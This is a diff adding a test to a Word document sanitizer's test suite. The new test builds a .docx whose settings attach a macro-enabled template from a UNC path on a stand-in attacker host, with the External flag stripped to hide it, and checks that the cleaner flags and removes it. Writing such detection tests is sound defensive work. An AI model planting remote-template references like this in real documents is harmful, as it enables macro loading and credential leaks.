@@ -240,3 +240,17 @@ def test_a_mail_merge_a_vml_fill_and_a_macro_enabled_template_are_taken_out(tmp_
     assert b"evil" not in b"".join(parts.values())
     assert main in parts["[Content_Types].xml"]
     assert b'<v:fill type="frame"/>' in parts["word/header1.xml"]
+
+
+def test_a_relationship_to_a_web_address_not_marked_external_is_taken_out(tmp_path: Path):
+    parts = attacks.memo_reference_parts()
+    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
+        b"<w:zoom ", b'<w:attachedTemplate r:id="rIdT"/><w:zoom ', 1)
+    parts["word/_rels/settings.xml.rels"] = attacks.relationships_part(
+        ("rIdT", "attachedTemplate", "\\\\evil.example\\t.dotm")).replace(
+        b' TargetMode="External"', b"")
+    warnings = clean(parts, Where(tmp_path / "reference.docx"))
+    assert [w.message for w in warnings] == [
+        "reference.docx's word/settings.xml has an attached template at "
+        "\\\\evil.example\\t.dotm" + _REACHES]
+    assert b"attachedTemplate" not in parts["word/settings.xml"]
